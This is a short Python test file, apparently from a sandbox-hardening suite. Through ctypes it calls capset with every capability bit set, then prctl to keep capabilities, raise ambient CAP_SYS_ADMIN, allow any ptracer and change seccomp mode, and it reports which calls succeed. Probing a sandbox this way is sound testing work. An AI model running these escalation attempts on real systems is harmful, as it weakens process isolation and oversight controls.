# attack: Gives itself capabilities, and takes back what it promised not to.
# verdicts: test_attack=failed
# manages: \[\]
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
PR_SET_KEEPCAPS, PR_CAP_AMBIENT, PR_SET_DUMPABLE, PR_SET_PTRACER, PR_SET_SECCOMP = 8, 47, 4, 0x59616D61, 22
PR_SET_PDEATHSIG = 1


def attack(n):
    header = (ctypes.c_uint32 * 2)(0x20080522, 0)
    data = (ctypes.c_uint32 * 6)(*[0xFFFFFFFF] * 6)
    managed = ["capset"] if libc.capset(header, data) == 0 else []
    tries = {
        "keepcaps": (PR_SET_KEEPCAPS, 1, 0, 0, 0),
        "ambient": (PR_CAP_AMBIENT, 2, 21, 0, 0),
        "dumpable": (PR_SET_DUMPABLE, 1, 0, 0, 0),
        "ptracer": (PR_SET_PTRACER, -1, 0, 0, 0),
        "outlive": (PR_SET_PDEATHSIG, 0, 0, 0, 0),
        "seccomp": (PR_SET_SECCOMP, 0, 0, 0, 0),
    }
    return managed + [name for name, arguments in tries.items() if libc.prctl(*arguments) == 0]
